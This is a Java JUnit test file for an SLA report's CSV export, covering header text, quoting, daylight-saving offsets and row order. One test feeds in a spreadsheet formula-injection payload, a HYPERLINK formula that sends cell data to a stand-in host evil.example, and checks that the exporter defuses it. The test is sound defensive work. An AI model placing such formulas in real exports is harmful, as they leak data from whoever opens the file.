package io.eteam.sla;

import static io.eteam.sla.Fixtures.CAL;
import static io.eteam.sla.Fixtures.at;
import static io.eteam.sla.Fixtures.open;
import static io.eteam.sla.Fixtures.resolvedAfter;
import static io.eteam.sla.Fixtures.week47;
import static java.util.Map.entry;
import static org.assertj.core.api.Assertions.assertThat;

import io.eteam.blocker.Impact;
import io.eteam.blocker.Kind;
import io.eteam.blocker.Status;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/// Rule SLA-13: the CSV parses back, with a standard RFC 4180 reader, to exactly what the report holds.
class SlaCsvTest {

    static final String TRICKY = "Pricing, \"final\" say\nfor Brazil — ok?";

    @Test
    void the_header_is_exactly_the_specified_one() {
        var csv = SlaCsv.render(week47(List.of()));

        assertThat(csv).isEqualTo("id,title,kind,impact,raised_by,raised_at,resolved_at,working_minutes,working_days,"
                + "target_days,status\r\n");
    }

    @Test
    void a_title_with_commas_quotes_and_a_line_break_parses_back_unchanged() throws IOException {
        var csv = SlaCsv.render(week47(List.of(titled(1, TRICKY))));

        assertThat(csv).contains("\"Pricing, \"\"final\"\" say\nfor Brazil — ok?\"");
        var records = parse(csv);
        assertThat(records).hasSize(1);
        assertThat(records.get(0).get("title")).isEqualTo(TRICKY);
    }

    @Test
    void a_title_a_spreadsheet_would_run_reads_back_with_a_quote_before_it() throws IOException {
        var csv = SlaCsv.render(week47(List.of(titled(1, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"), titled(2, "@SUM(A1)"))));

        assertThat(parse(csv)).extracting(r -> r.get("title"))
                .containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(A1)");
    }

    @Test
    void a_resolved_row_reads_back_field_by_field() throws IOException {
        var report = week47(List.of(new SlaBlocker(7, "Legal review", Kind.OFF_TRACK, Impact.HIGH, "ana", "bo",
                at("2026-11-16T13:05"), at("2026-11-19T09:00"), Status.RESOLVED)));

        var row = parse(SlaCsv.render(report)).get(0);

        assertThat(row.toMap()).containsExactly(
                entry("id", "7"),
                entry("title", "Legal review"),
                entry("kind", "off-track"),
                entry("impact", "high"),
                entry("raised_by", "ana"),
                entry("raised_at", "2026-11-16T13:05:00+01:00"),
                entry("resolved_at", "2026-11-19T09:00:00+01:00"),
                entry("working_minutes", "1195"),
                entry("working_days", "2.49"),
                entry("target_days", "2.5"),
                entry("status", "met"));
    }

    @Test
    void an_open_row_leaves_resolved_at_empty() throws IOException {
        var row = parse(SlaCsv.render(week47(List.of(open(1, "2026-11-19T09:00"))))).get(0);

        assertThat(row.get("resolved_at")).isEmpty();
        assertThat(row.get("status")).isEqualTo("at_risk");
    }

    @Test
    void instants_carry_the_offset_in_force_at_that_time() throws IOException {
        /// Summer time ends on Sunday 2026-10-25: raised at +02:00, resolved at +01:00.
        var report = SlaReport.build(CAL, SlaPeriod.week("2026-W44"), at("2026-11-02T00:00"),
                asOf -> asOf.plusSeconds(86_400), List.of(new SlaBlocker(1, "Across the change", Kind.BLOCKED,
                        Impact.LOW, "ana", null, at("2026-10-23T09:00"), at("2026-10-26T09:30"), Status.RESOLVED)),
                0, List.of());

        var row = parse(SlaCsv.render(report)).get(0);

        assertThat(row.get("raised_at")).isEqualTo("2026-10-23T09:00:00+02:00");
        assertThat(row.get("resolved_at")).isEqualTo("2026-10-26T09:30:00+01:00");
        assertThat(row.get("working_minutes")).isEqualTo("510");
    }

    @Test
    void rows_come_in_the_reports_order() throws IOException {
        var report = week47(List.of(open(1, "2026-11-19T09:00"), resolvedAfter(2, 60), titled(3, "x")));

        assertThat(parse(SlaCsv.render(report))).extracting(r -> r.get("id")).containsExactly("2", "3", "1");
    }

    static SlaBlocker titled(long id, String title) {
        return new SlaBlocker(id, title, Kind.BLOCKED, Impact.MEDIUM, "ana", null, at("2026-11-16T09:00"),
                at("2026-11-17T09:00"), Status.RESOLVED);
    }

    static List<CSVRecord> parse(String csv) throws IOException {
        var format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
        try (var parser = CSVParser.parse(new StringReader(csv), format)) {
            assertThat(parser.getHeaderNames()).isEqualTo(SlaCsv.HEADER);
            return parser.getRecords();
        }
    }

}
